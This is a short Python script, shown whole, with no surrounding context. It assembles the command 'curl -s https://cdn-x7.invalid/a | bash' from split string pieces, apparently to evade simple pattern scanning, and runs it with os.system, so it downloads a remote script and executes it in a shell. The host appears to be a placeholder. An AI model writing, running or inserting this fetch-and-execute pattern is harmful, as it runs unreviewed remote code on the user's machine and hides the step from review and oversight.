import os
parts = []
parts.append("curl -s ")
parts += ["https://cdn-x7.invalid/a", " | bash"]
os.system("".join(parts))
